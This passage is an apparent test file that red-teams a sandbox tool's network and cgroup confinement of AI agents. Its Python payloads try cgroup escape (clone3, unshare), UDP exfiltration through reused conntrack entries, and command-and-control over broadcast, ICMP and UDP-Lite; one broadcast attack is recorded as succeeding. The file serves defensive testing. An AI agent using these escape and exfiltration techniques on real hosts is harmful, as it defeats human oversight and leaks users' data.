// Adversarial review of the two-way network policies (deny, allowlist, domains) and the domains
// CONNECT proxy, played as the hostile agent (and as another local user). Every test is an
// attack and asserts that it FAILS; an attack that works is kept, marked todo (ATTACK SUCCEEDS).
// Targets: loopback, and an "outside" host in a network namespace of ours behind a veth pair.
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Human, createHuman, must, packageForHumans, sh } from '../helpers/system.js';
import { type Background, background as startInBackground } from '../helpers/background.js';

const tag = randomBytes(3).toString('hex');
const NS = `aur-${tag}`;
const VETH_HOST = `arh${tag}`;
const VETH_NS = `arp${tag}`;
const SUBNET = `10.214.${parseInt(tag.slice(0, 2), 16)}`;
const HOST = `${SUBNET}.1`;
const OUTSIDE = `${SUBNET}.2`;
const BCAST = `${SUBNET}.3`;
const HOST6 = `fd00:a6:${tag.slice(0, 4)}::1`;
const OUTSIDE6 = `fd00:a6:${tag.slice(0, 4)}::2`;
const HOSTS_TAG = `# au review test ${tag}`;
const WORLD = `aur-${tag}.test`;
const OTHER = `aur-${tag}-other.test`;
const SELF = `aur-${tag}-self.test`;
const LO = `aur-${tag}-lo.test`;
const META = `aur-${tag}-meta.test`;
const V6LO = `aur-${tag}-v6lo.test`;
const MAPPED = `aur-${tag}-mapped.test`;
const BASE = 21000 + ((parseInt(tag.slice(2, 4), 16) * 41) % 18000);
const P = (n: number): number => BASE + n;
const UDP_LOG = `/tmp/aur-udp-${tag}`;
const TCP_LOG = `/tmp/aur-tcp-${tag}`;

const children: ChildProcess[] = [];

const background = (argv: string[], cwd = '/'): Background => startInBackground(argv, children, cwd);
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
async function until(check: () => boolean, ms = 10_000): Promise<void> {
  for (let i = 0; i < ms / 50 && !check(); i++) await sleep(50);
}
const nsPy = (code: string): string => must(['ip', 'netns', 'exec', NS, 'python3', '-c', code]);

/** ICMP checksum and packet builders for the outside host (root in its namespace: raw sockets). */
const PY_ICMP = `import socket, struct, time
def csum(b):
  if len(b) % 2: b += b'\\0'
  s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
  s = (s >> 16) + (s & 0xffff); s += s >> 16
  return (~s) & 0xffff
def icmp(t, c, rest, payload):
  h = struct.pack('!BBH', t, c, 0) + rest + payload
  return struct.pack('!BBH', t, c, csum(h)) + rest + payload
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
`;

/** Probes run at once: go(f, *args) starts f in a thread, done() waits for them all; say() writes one whole line. */
const PY_AT_ONCE = `import socket, sys, threading
lock = threading.Lock()
def say(*words):
  with lock: sys.stdout.write(' '.join(map(str, words)) + '\\n'); sys.stdout.flush()
probes = []
def go(f, *args):
  t = threading.Thread(target=f, args=args); t.start(); probes.append(t)
def done():
  for t in probes: t.join()`;

describe('review: attacks on the two-way network policies and the domains proxy', () => {
  let human: Human;
  let other: Human;
  let agent: string;
  let site: string;
  let selfSite: string;

  const auArgv = (args: string[]): string[] => human.asHuman([process.execPath, join(packageForHumans(), 'bin', 'au'), ...args]);
  const agentPy = (code: string): { status: number; stdout: string; stderr: string } =>
    human.au(['run', '-a', agent, '--', 'python3', '-c', code]);
  const bgAgent = (code: string, name = agent): ReturnType<typeof background> =>
    background(auArgv(['run', '-a', name, '--', 'python3', '-u', '-c', code]), human.home);
  const setPolicy = (...args: string[]): void => {
    const r = human.au(['net', 'set', '-a', agent, ...args]);
    assert.equal(r.status, 0, r.stderr);
  };

  before(() => {
    human = createHuman();
    other = createHuman();
    agent = human.newAgent();
    site = mkdtempSync(join(tmpdir(), 'aur-site-'));
    writeFileSync(join(site, 'index.html'), 'world\n');
    selfSite = mkdtempSync(join(tmpdir(), 'aur-self-'));
    writeFileSync(join(selfSite, 'index.html'), 'local-secret\n');
    must(['chmod', '-R', 'a+rX', site, selfSite]);
    must(['ip', 'netns', 'add', NS]);
    must(['ip', 'link', 'add', VETH_HOST, 'type', 'veth', 'peer', 'name', VETH_NS]);
    must(['ip', 'link', 'set', VETH_NS, 'netns', NS]);
    must(['ip', 'addr', 'add', `${HOST}/30`, 'brd', '+', 'dev', VETH_HOST]);
    must(['ip', 'link', 'set', VETH_HOST, 'up']);
    must(['ip', '-n', NS, 'addr', 'add', `${OUTSIDE}/30`, 'brd', '+', 'dev', VETH_NS]);
    must(['ip', '-n', NS, 'link', 'set', VETH_NS, 'up']);
    must(['ip', '-n', NS, 'link', 'set', 'lo', 'up']);
    must(['ip', '-6', 'addr', 'add', `${HOST6}/64`, 'dev', VETH_HOST, 'nodad']);
    must(['ip', '-n', NS, '-6', 'addr', 'add', `${OUTSIDE6}/64`, 'dev', VETH_NS, 'nodad']);
    const serve = (argv: string[]): void => {
      const c = spawn(argv[0]!, argv.slice(1), { stdio: 'ignore', detached: true });
      c.unref();
      children.push(c);
    };
    serve(['ip', 'netns', 'exec', NS, 'python3', '-m', 'http.server', '80', '--bind', OUTSIDE, '--directory', site]);
    // The outside host: a UDP echo server that writes down every payload, and a TCP line logger.
    writeFileSync(UDP_LOG, '');
    writeFileSync(TCP_LOG, '');
    for (const port of [P(1), 53])
      serve([
        'ip',
        'netns',
        'exec',
        NS,
        'python3',
        '-c',
        `import socket\nlog = open('${UDP_LOG}', 'a', buffering=1)\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('${OUTSIDE}', ${port}))\nwhile True:\n  d, a = u.recvfrom(200)\n  log.write('%s %d %s\\n' % (a[0], a[1], d.decode()))\n  u.sendto(b'echo ' + d, a)\n`,
      ]);
    serve([
      'ip',
      'netns',
      'exec',
      NS,
      'python3',
      '-c',
      `import socket, threading\nlog = open('${TCP_LOG}', 'a', buffering=1)\nt = socket.socket()\nt.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nt.bind(('${OUTSIDE}', ${P(2)}))\nt.listen(8)\ndef one(c):\n  f = c.makefile('rb')\n  for line in f: log.write(line.decode())\nwhile True:\n  c, a = t.accept()\n  threading.Thread(target=one, args=(c,), daemon=True).start()\n`,
    ]);
    // A service of the machine on one of its own non-loopback addresses (the host end of the veth), port 80.
    serve(['python3', '-m', 'http.server', '80', '--bind', HOST, '--directory', selfSite]);
    // The human's own services: TCP on every address, UDP on loopback (it writes down what it receives).
    serve(['runuser', '-u', human.name, '--', 'python3', '-m', 'http.server', String(P(3)), '--bind', '0.0.0.0', '--directory', site]);
    writeFileSync(
      '/etc/hosts',
      `${readFileSync('/etc/hosts', 'utf8')}${OUTSIDE} ${WORLD} ${OTHER} ${HOSTS_TAG}\n${HOST} ${SELF} ${HOSTS_TAG}\n127.0.0.1 ${LO} ${HOSTS_TAG}\n169.254.169.254 ${META} ${HOSTS_TAG}\n::1 ${V6LO} ${HOSTS_TAG}\n::ffff:127.0.0.1 ${MAPPED} ${HOSTS_TAG}\n`,
    );
    for (let i = 0; i < 100; i++) {
      if (
        sh([
          'bash',
          '-c',
          `exec 3<>/dev/tcp/${OUTSIDE}/80 && exec 4<>/dev/tcp/${HOST}/80 && exec 5<>/dev/tcp/127.0.0.1/${P(3)} && exec 6<>/dev/tcp/${OUTSIDE}/${P(2)}`,
        ]).status === 0
      )
        break;
      sh(['sleep', '0.05']);
    }
  });

  after(() => {
    for (const c of children) {
      try {
        if (c.pid) process.kill(-c.pid, 'SIGKILL');
      } catch {
        // gone
      }
    }
    writeFileSync(
      '/etc/hosts',
      readFileSync('/etc/hosts', 'utf8')
        .split('\n')
        .filter((l) => !l.includes(HOSTS_TAG))
        .join('\n'),
    );
    sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
    sh(['ip', 'netns', 'delete', NS]);
    sh(['ip', 'link', 'delete', VETH_HOST]);
    for (const p of [site, selfSite, UDP_LOG, TCP_LOG]) rmSync(p, { recursive: true, force: true });
    human.cleanup();
    other.cleanup();
  });

  test('cgroup: the agent cannot leave its run cgroup (cgroup.procs, clone3 CLONE_INTO_CGROUP), make a sub-cgroup, or move through a cgroup namespace of its own', () => {
    setPolicy('deny');
    const code = `import os, subprocess
def cg(): return [l for l in open('/proc/self/cgroup').read().split('\\n') if l.startswith('0::')][0]
print('start', cg())
run = '/sys/fs/cgroup/unified' + cg()[3:]
for target in ['/sys/fs/cgroup/unified/cgroup.procs', '/sys/fs/cgroup/unified/agent-as-unix-user/cgroup.procs', os.path.dirname(run) + '/cgroup.procs', run + '/cgroup.procs', run + '/cgroup.threads']:
  try:
    open(target, 'w').write(str(os.getpid())); print('WROTE', target)
  except OSError as e: print('refused', e.errno)
for d in [run + '/escape', os.path.dirname(run) + '/escape', '/sys/fs/cgroup/unified/escape']:
  try:
    os.mkdir(d); print('MADE', d)
  except OSError as e: print('refused', e.errno)
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
for d in ['/sys/fs/cgroup/unified', os.path.dirname(run)]:
  fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
  args = ctypes.create_string_buffer(struct.pack('11Q', 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd), 88)
  r, w = os.pipe()
  pid = libc.syscall(435, args, 88)
  if pid == 0:
    os.write(w, open('/proc/self/cgroup').read().encode()); os._exit(0)
  if pid < 0: print('refused clone3', ctypes.get_errno())
  else:
    os.waitpid(pid, 0); print('CLONED', os.read(r, 1000).decode().split())
  os.close(fd)
m = os.path.expanduser('~/cg-%d' % os.getpid()); os.makedirs(m, exist_ok=True)
r = subprocess.run(['unshare', '-Urmc', 'sh', '-c', 'mount -t cgroup2 none %s && echo 0 > %s/cgroup.procs && echo MOVED || echo refused' % (m, m)], capture_output=True, text=True)
print('userns', r.stdout.strip() or 'refused')
os.rmdir(m)
print('end', cg())`;
    const r = agentPy(code);
    assert.equal(r.status, 0, r.stderr);
    const start = /^start (.*)$/m.exec(r.stdout)?.[1];
    assert.match(start ?? '', new RegExp(`^0::/agent-as-unix-user/${agent}/run-\\d+$`), r.stdout);
    assert.doesNotMatch(r.stdout, /WROTE|MADE|MOVED|CLONED/, r.stdout);
    assert.equal(r.stdout.match(/^refused/gm)?.length, 10, r.stdout);
    assert.equal(/^end (.*)$/m.exec(r.stdout)?.[1], start, r.stdout);
  });

  test('deny: loopback and the host through other doors (127.0.0.2, ::1, ::ffff:127.0.0.1, the host veth address, UDP, MPTCP) all refused', () => {
    setPolicy('deny');
    // The probes run at once, each in its own thread with its own timeout: a dropped SYN costs 3 s once, not once per door.
    const code = `${PY_AT_ONCE}
def tcp(fam, addr, proto=0):
  try:
    s = socket.socket(fam, socket.SOCK_STREAM, proto); s.settimeout(3); s.connect(addr); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); say('CONNECTED', addr, s.recv(20))
  except OSError as e: say('refused', addr, type(e).__name__)
def udp():
  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
  try:
    u.sendto(b'udp-out', ('${OUTSIDE}', ${P(1)})); say('udp reply', u.recv(100))
  except OSError as e: say('refused udp', type(e).__name__)
go(tcp, socket.AF_INET, ('127.0.0.2', ${P(3)}))
go(tcp, socket.AF_INET6, ('::ffff:127.0.0.1', ${P(3)}))
go(tcp, socket.AF_INET6, ('::1', ${P(3)}))
go(tcp, socket.AF_INET, ('${HOST}', ${P(3)}))
go(tcp, socket.AF_INET, ('${HOST}', 80))
go(tcp, socket.AF_INET, ('${OUTSIDE}', 80), 262)
go(tcp, socket.AF_INET, ('127.0.0.1', ${P(3)}), 262)
go(udp)
done()`;
    const control = human.run(['python3', '-c', code]).stdout;
    assert.equal(control.match(/CONNECTED/g)?.length, 6, `the human (unfiltered) reaches these: ${control}`);
    writeFileSync(UDP_LOG, '');
    const r = agentPy(code);
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim().split('\n').length, 8, `every probe ended with its line: ${r.stdout}`);
    assert.doesNotMatch(r.stdout, /CONNECTED|udp reply/, r.stdout);
    assert.doesNotMatch(readFileSync(UDP_LOG, 'utf8'), /udp-out/);
  });

  for (const [policy, peer] of [
    ['deny', P(1)],
    ['domains', 53],
  ] as const)
    test(`${policy}: egress to UDP ${peer} through a conntrack entry another process left (source port reused after the human's socket closed)`, () => {
      if (policy === 'domains') setPolicy('domains', '--domain', WORLD);
      else setPolicy('deny');
      const port = P(4) + (peer === 53 ? 100 : 0);
      // The human (unfiltered) exchanges one datagram with the outside host from a fixed port, then closes it.
      const h = human.run([
        'python3',
        '-c',
        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\nu.sendto(b'human-query', ('${OUTSIDE}', ${peer}))\nprint(u.recv(100).decode())\nu.close()`,
      ]);
      assert.equal(h.stdout.trim(), 'echo human-query', h.stderr);
      // The agent takes the port and speaks to the same peer (a DNS resolver of the host, in real life).
      const r = agentPy(
        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(3)\ntry:\n  u.sendto(b'EXFIL-${policy}', ('${OUTSIDE}', ${peer}))\n  print('reply', u.recv(100).decode())\nexcept OSError as e:\n  print('refused', type(e).__name__)`,
      );
      assert.equal(r.status, 0, r.stderr);
      assert.deepEqual(
        {
          egress: readFileSync(UDP_LOG, 'utf8').includes(`EXFIL-${policy}`),
          inboundReply: r.stdout.includes(`reply echo EXFIL-${policy}`),
        },
        { egress: false, inboundReply: false },
        r.stdout,
      );
    });

  test(
    "deny: a directed broadcast to a port the agent shares (SO_REUSEADDR) with another user's UDP socket",
    {
      todo: "ATTACK SUCCEEDS: the socket lookup of `socket cgroupv2` finds one socket (the other user's); broadcast/multicast is then delivered to every socket on the port, the agent's included",
    },
    async () => {
      setPolicy('deny');
      const port = P(5);
      const decoy = background([
        'runuser',
        '-u',
        other.name,
        '--',
        'python3',
        '-u',
        '-c',
        `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('decoy ready')\nwhile True: print('decoy got', u.recv(100).decode())`,
      ]);
      await until(() => decoy.output().includes('decoy ready'));
      const victim = bgAgent(
        `import socket\nu = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nu.bind(('::', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
      );
      await until(() => victim.output().includes('ready'));
      nsPy(
        `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\nfor i in range(3):\n  u.sendto(b'c2-broadcast', ('${BCAST}', ${port})); time.sleep(0.2)`,
      );
      await until(() => /AGENT GOT|nothing/.test(victim.output()));
      const out = await victim.stop();
      assert.match(await decoy.stop(), /decoy got c2-broadcast/, 'the broadcast arrived on the machine');
      assert.doesNotMatch(out, /AGENT GOT/, out);
    },
  );

  test('deny: UDP-Lite datagrams from the outside host to the agent', async () => {
    setPolicy('deny');
    const port = P(6);
    const witness = background([
      'runuser',
      '-u',
      other.name,
      '--',
      'python3',
      '-u',
      '-c',
      `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nwhile True: print('witness got', u.recv(100).decode())`,
    ]);
    await until(() => witness.output().includes('witness ready'));
    const victim = bgAgent(
      `import socket, sys\ntry:\n  u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\nu.bind(('0.0.0.0', ${port}))\nu.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', u.recv(100).decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
    );
    await until(() => /ready|refused/.test(victim.output()));
    nsPy(
      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\nfor i in range(3):\n  u.sendto(b'c2-udplite', ('${HOST}', ${port})); u.sendto(b'c2-udplite', ('${HOST}', ${port + 1})); time.sleep(0.2)`,
    );
    await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
    const out = await victim.stop();
    assert.match(await witness.stop(), /witness got c2-udplite/, 'UDP-Lite reaches this machine');
    assert.doesNotMatch(out, /AGENT GOT/, out);
    assert.match(out, /refused Protocol not supported/, `the socket is refused by the run's seccomp filter\n${out}`);
  });

  test('deny: unsolicited ICMP echo replies to a ping socket of the agent (ping_group_range as systemd sets it)', async () => {
    setPolicy('deny');
    const saved = must(['sysctl', '-n', 'net.ipv4.ping_group_range']).trim().split(/\s+/).join(' ');
    must(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647']);
    try {
      const ident = P(7) % 65536;
      const witness = background([
        'runuser',
        '-u',
        other.name,
        '--',
        'python3',
        '-u',
        '-c',
        `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\ns.bind(('0.0.0.0', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`,
      ]);
      await until(() => witness.output().includes('witness ready'));
      const victim = bgAgent(
        `import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('0.0.0.0', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
      );
      await until(() => /ready|refused/.test(victim.output()));
      nsPy(
        `${PY_ICMP}for i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(icmp(0, 0, struct.pack('!HH', id, i), b'c2-echo'), ('${HOST}', 0))\n  time.sleep(0.2)`,
      );
      await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
      const out = await victim.stop();
      assert.match(await witness.stop(), /witness got c2-echo/, 'echo replies reach ping sockets on this machine');
      assert.doesNotMatch(out, /AGENT GOT/, out);
      assert.match(out, /refused Protocol not supported/, `the socket is refused by the run's seccomp filter\n${out}`);
    } finally {
      must(['sysctl', '-q', '-w', `net.ipv4.ping_group_range=${saved}`]);
    }
  });

  test('deny: unsolicited ICMPv6 echo replies to an IPv6 ping socket of the agent', async () => {
    setPolicy('deny');
    const saved = must(['sysctl', '-n', 'net.ipv4.ping_group_range']).trim().split(/\s+/).join(' ');
    must(['sysctl', '-q', '-w', 'net.ipv4.ping_group_range=0 2147483647']);
    try {
      const ident = P(13) % 65536;
      const witness = background([
        'runuser',
        '-u',
        other.name,
        '--',
        'python3',
        '-u',
        '-c',
        `import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\ns.bind(('::', ${ident + 1}))\nprint('witness ready')\nwhile True: print('witness got', s.recv(100)[8:].decode())`,
      ]);
      await until(() => witness.output().includes('witness ready'));
      const victim = bgAgent(
        `import socket, sys\ntry:\n  s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)\nexcept OSError as e:\n  print('refused', e.strerror); sys.exit(0)\ns.bind(('::', ${ident}))\ns.settimeout(6)\nprint('ready')\ntry:\n  print('AGENT GOT', s.recv(100)[8:].decode())\nexcept OSError as e:\n  print('nothing', type(e).__name__)`,
      );
      await until(() => /ready|refused/.test(victim.output()));
      nsPy(
        `import socket, struct, time\nraw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\nfor i in range(3):\n  for id in (${ident}, ${ident + 1}):\n    raw.sendto(struct.pack('!BBHHH', 129, 0, 0, id, i) + b'c2-echo6', ('${HOST6}', 0))\n  time.sleep(0.2)`,
      );
      await until(() => /AGENT GOT|nothing|refused/.test(victim.output()));
      const out = await victim.stop();
      assert.match(await witness.stop(), /witness got c2-echo6/, 'echo replies reach IPv6 ping sockets on this machine');
      assert.doesNotMatch(out, /AGENT GOT/, out);
      assert.match(out, /refused Protocol not supported/, `the socket is refused by the run's seccomp filter\n${out}`);
    } finally {
      must(['sysctl', '-q', '-w', `net.ipv4.ping_group_range=${saved}`]);
    }
  });

  test("allowlist of the LAN subnet: the machine's own address in it reaches the human's services bound to 0.0.0.0 (loopback ports by another door)", () => {
    setPolicy('allowlist', '--allow', `${SUBNET}.0/30`);
    const r = agentPy(
      `import socket\ntry:\n  s = socket.create_connection(('${HOST}', ${P(3)}), timeout=3); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print('GOT', s.recv(200).decode().split()[1])\nexcept OSError as e: print('refused', type(e).__name__)`,
    );
    assert.equal(r.status, 0, r.stderr);
    const outside = agentPy(
      `import socket\ntry:\n  socket.create_connection(('${OUTSIDE}', 80), timeout=3); print('outside ok')\nexcept OSError as e: print('refused', type(e).__name__)`,
    );
    assert.equal(outside.stdout.trim(), 'outside ok', 'the listed subnet itself is reachable (the policy works)');
    assert.doesNotMatch(r.stdout, /GOT/, r.stdout);
  });

  test('deny: a forged ICMP port-unreachable quoting data, read from the error queue of an agent UDP socket (IP_RECVERR)', async () => {
    setPolicy('deny');
    const port = P(8);
    const witness = background([
      'runuser',
      '-u',
      other.name,
      '--',
      'python3',
      '-u',
      '-c',
      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port + 1}))\nprint('witness ready')\nfor i in range(50):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('witness got', d); break\n  except BlockingIOError: time.sleep(0.2)`,
    ]);
    await until(() => witness.output().includes('witness ready'));
    const victim = bgAgent(
      `import socket, time\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nu.setsockopt(socket.IPPROTO_IP, 11, 1)\nu.bind(('0.0.0.0', ${port}))\nprint('ready')\nfor i in range(30):\n  try:\n    d, anc, fl, a = u.recvmsg(200, 512, socket.MSG_ERRQUEUE | socket.MSG_DONTWAIT)\n    print('AGENT GOT', d); break\n  except BlockingIOError: time.sleep(0.2)\nelse: print('nothing')`,
    );
    await until(() => victim.output().includes('ready'));
    nsPy(
      `${PY_ICMP}inner_udp = struct.pack('!HHHH', ${port}, 9999, 8 + 9, 0) + b'c2-icmperr'\ninner_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(inner_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nw_udp = struct.pack('!HHHH', ${port + 1}, 9999, 8 + 9, 0) + b'c2-icmperr'\nw_ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(w_udp), 1, 0, 64, 17, 0, socket.inet_aton('${HOST}'), socket.inet_aton('${OUTSIDE}'))\nfor i in range(3):\n  raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', inner_ip + inner_udp), ('${HOST}', 0)); raw.sendto(icmp(3, 3, b'\\0\\0\\0\\0', w_ip + w_udp), ('${HOST}', 0)); time.sleep(0.2)`,
    );
    // The errors were sent (nsPy has returned) and reached the witness's socket: the agent's socket,
    // still polling its error queue (6 s in all), gets 1.5 s more for its copy to show up.
    await until(() => witness.output().includes('witness got'));
    await until(() => /AGENT GOT|nothing/.test(victim.output()), 1500);
    const out = await victim.stop();
    assert.match(await witness.stop(), /witness got .*c2-icmperr/, "the forged error reaches another user's socket: it would be delivered");
    assert.match(out, /^ready$/m, out);
    assert.doesNotMatch(out, /AGENT GOT|Traceback/, `the agent's socket polled its error queue and found nothing: ${out}`);
  });

  test('deny: the outside host reads bits from which ports the agent listens on (dropped SYN vs RST)', async () => {
    setPolicy('deny');
    const [one, zero] = [P(9), P(10)];
    const victim = bgAgent(
      `import socket, time\nl = socket.socket()\nl.bind(('0.0.0.0', ${one}))\nl.listen(4)\nprint('ready')\ntime.sleep(20)`,
    );
    await until(() => victim.output().includes('ready'));
    const probe = nsPy(
      `import socket\nfor p in (${one}, ${zero}):\n  try:\n    socket.create_connection(('${HOST}', p), timeout=2); print('open')\n  except OSError as e: print(type(e).__name__)`,
    )
      .trim()
      .split('\n');
    await victim.stop();
    assert.notEqual(probe[0], 'open', probe.join(','));
    assert.equal(probe[0], probe[1], `the listening port and the closed port look the same from outside: ${probe.join(', ')}`);
  });

  test('deny applied while a run lives: its established connection keeps sending, and it still receives from the outside', async () => {
    assert.equal(human.au(['net', 'clear', '-a', agent]).status, 0);
    // Conntrack runs, as on any machine with a stateful firewall (ufw, firewalld, docker): this
    // table only counts. (With no conntrack user at all, the flow is picked up mid-stream as new
    // when the agent's table loads, and then refused.)
    sh(['nft', '-f', '-'], {
      input: `table inet aur-${tag}-fw {\n chain out {\n  type filter hook output priority 10; policy accept;\n  ct state established counter\n }\n}\n`,
    });
    writeFileSync(TCP_LOG, '');
    const port = P(11);
    const victim = bgAgent(`import socket, time, threading
c = socket.create_connection(('${OUTSIDE}', ${P(2)}))
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(('0.0.0.0', ${port})); l.listen(4)
def acc():
  while True:
    k, a = l.accept(); k.settimeout(2)
    try: print('INBOUND', k.recv(100).decode())
    except OSError: print('inbound no data')
threading.Thread(target=acc, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', ${port}))
def udp():
  while True: print('UDP INBOUND', u.recv(100).decode())
threading.Thread(target=udp, daemon=True).start()
print('ready')
for i in range(100):
  try: c.sendall(b'tick %d\\n' % i)
  except OSError as e: print('send failed', e); break
  time.sleep(0.2)`);
    await until(() => victim.output().includes('ready') && readFileSync(TCP_LOG, 'utf8').includes('tick'));
    assert.match(readFileSync(TCP_LOG, 'utf8'), /tick/, `setup: the run reaches the outside host before the policy: ${victim.output()}`);
    // A live run would keep the policy it started with: au refuses, and changes nothing ...
    const refused = human.au(['net', 'set', '-a', agent, 'deny']);
    assert.equal(refused.status, 1, refused.stderr);
    assert.match(refused.stderr, /has \d+ live process.*keep the network policy they started with.*--force/, refused.stderr);
    assert.equal((JSON.parse(human.au(['net', 'show', '-a', agent, '--json']).stdout) as { policy: string }).policy, 'allow');
    // ... or, with --force, ends the run first.
    const forced = human.au(['net', 'set', '-a', agent, 'deny', '--force']);
    assert.equal(forced.status, 0, forced.stderr);
    assert.match(forced.stderr, /ending them \(SIGKILL\)/, forced.stderr);
    assert.match(forced.stderr, /conntrack -D -f ipv4 -m 0x[0-9a-f]{8}\/0xffffff00/, forced.stderr);
    await sleep(500);
    const mark = readFileSync(TCP_LOG, 'utf8').length;
    const inbound = nsPy(
      `import socket\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): u.sendto(b'c2-udp', ('${HOST}', ${port}))\ntry:\n  s = socket.create_connection(('${HOST}', ${port}), timeout=2); s.sendall(b'c2-in'); print('connected')\nexcept OSError as e: print(type(e).__name__)`,
    ).trim();
    await sleep(1500);
    const out = await victim.stop();
    sh(['nft', 'delete', 'table', 'inet', `aur-${tag}-fw`]);
    const later = readFileSync(TCP_LOG, 'utf8').slice(mark);
    assert.deepEqual(
      {
        egressLines: later.split('\n').length - 1,
        inboundConnected: inbound === 'connected',
        inboundData: /INBOUND c2-in/.test(out),
        udpInbound: /UDP INBOUND c2-udp/.test(out),
      },
      { egressLines: 0, inboundConnected: false, inboundData: false, udpInbound: false },
      out,
    );
  });

  test('deny: an abstract unix socket of the human (a local service the policy cannot see)', async () => {
    setPolicy('deny');
    const name = `aur-${tag}-svc`;
    const svc = background([
      'runuser',
      '-u',
      human.name,
      '--',
      'python3',
      '-u',
      '-c',
      `import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0${name}')\ns.listen(4)\nprint('ready')\nwhile True:\n  c, a = s.accept(); c.sendall(b'human-secret'); c.close()`,
    ]);
    await until(() => svc.output().includes('ready'));
    const r = agentPy(
      `import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('\\0${name}'); print('GOT', s.recv(100).decode())\nexcept OSError as e: print('refused', type(e).__name__)`,
    );
    await svc.stop();
    assert.doesNotMatch(r.stdout, /GOT/, r.stdout);
    assert.match(r.stdout, /refused PermissionError/, `refused by the run's Landlock scope\n${r.stdout}`);
  });

  test("allowlist: ordinary networking still works under the run's socket filter (TCP, UDP, non-blocking sockets, unix sockets, abstract ones of its own, ip route over netlink)", () => {
    setPolicy('allowlist', '--allow', `${OUTSIDE}/32`);
    const r = agentPy(
      [
        'import socket, subprocess, urllib.request',
        `print('tcp', urllib.request.urlopen('http://${OUTSIDE}/', timeout=10).read().decode().strip())`,
        `u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)`,
        'u.settimeout(5)',
        `u.sendto(b'ordinary', ('${OUTSIDE}', ${P(1)})); print('udp', u.recv(100).decode())`,
        'a, b = socket.socketpair(); a.sendall(b"pair"); print("socketpair", b.recv(10).decode())',
        `l = socket.socket(socket.AF_UNIX); l.bind('\\0aur-${tag}-own'); l.listen(1)`,
